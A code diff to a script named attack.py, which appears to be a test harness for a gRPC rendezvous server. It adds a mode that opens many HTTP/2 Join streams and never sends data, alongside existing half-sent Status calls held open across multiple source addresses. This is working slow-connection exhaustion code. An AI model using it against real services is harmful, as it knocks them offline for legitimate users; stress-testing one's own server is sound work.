@@ -10,6 +10,8 @@ by itself and prints one JSON line of what it did.
                                                         message prefix and never finish, held
                                                         SECONDS, from SOURCES local addresses
                                                         (the host's extra ones, `ip addr add`)
+    attack.py joins ENDPOINT COUNT SECONDS [SOURCES]    COUNT Join streams that never send
+                                                        their first message, as held
 """
 
 from __future__ import annotations
@@ -45,12 +47,22 @@ def _frame(kind: int, flags: int, stream: int, payload: bytes) -> bytes:
 
 
 def held_status_frames(stream: int, authority: bytes) -> bytes:
+    """A Status call whose request stops after its length prefix."""
+    return _headers(stream, authority, b"Status") + _frame(0, 0, stream, b"\x00\x00\x00\x00\x40")
+
+
+def silent_join_frames(stream: int, authority: bytes) -> bytes:
+    """A Join stream opened, and nothing sent on it."""
+    return _headers(stream, authority, b"Join")
+
+
+def _headers(stream: int, authority: bytes, method: bytes) -> bytes:
     headers = b"".join((
         _literal(b":method", b"POST"), _literal(b":scheme", b"http"),
-        _literal(b":path", b"/rendezvous.v1.Rendezvous/Status"), _literal(b":authority", authority),
+        _literal(b":path", b"/rendezvous.v1.Rendezvous/" + method), _literal(b":authority", authority),
         _literal(b"content-type", b"application/grpc"), _literal(b"te", b"trailers"),
     ))
-    return _frame(1, 0x4, stream, headers) + _frame(0, 0, stream, b"\x00\x00\x00\x00\x40")
+    return _frame(1, 0x4, stream, headers)
 
 
 def forged(job: str, count: int) -> list[pb.AdvertRecord]:
@@ -139,9 +151,9 @@ def _alive(s: socket.socket) -> bool:
         return False
 
 
-async def held(endpoint: str, count: int, seconds: float, sources: list[str]) -> dict:
+async def held(endpoint: str, count: int, seconds: float, sources: list[str], frames=held_status_frames) -> dict:
     """`count` held calls, 16 per connection (the server's cap of streams), connections
-    spread over `sources`."""
+    spread over `sources`; `frames` opens one."""
     host, port = endpoint.rsplit(":", 1)
     per_connection = 16
     held_sockets = []
@@ -151,11 +163,11 @@ async def held(endpoint: str, count: int, seconds: float, sources: list[str]) ->
             s = _connect(host.strip("[]"), int(port), source)
         except OSError:
             continue
-        frames = PREFACE + b"".join(
-            held_status_frames(2 * i + 1, endpoint.encode()) for i in range(min(per_connection, count - n))
+        data = PREFACE + b"".join(
+            frames(2 * i + 1, endpoint.encode()) for i in range(min(per_connection, count - n))
         )
         if _wait_connected(s):
-            await asyncio.get_running_loop().sock_sendall(s, frames)
+            await asyncio.get_running_loop().sock_sendall(s, data)
         held_sockets.append(s)
     await asyncio.sleep(seconds)
     for s in held_sockets:
@@ -178,7 +190,9 @@ def main(argv: list[str]) -> None:
     elif kind == "idle":
         result = asyncio.run(idle(endpoint, int(rest[0]), float(rest[1])))
     else:
-        result = asyncio.run(held(endpoint, int(rest[0]), float(rest[1]), rest[2].split(",") if len(rest) > 2 else []))
+        frames = silent_join_frames if kind == "joins" else held_status_frames
+        sources = rest[2].split(",") if len(rest) > 2 else []
+        result = asyncio.run(held(endpoint, int(rest[0]), float(rest[1]), sources, frames))
     print(json.dumps(result), flush=True)
 
 
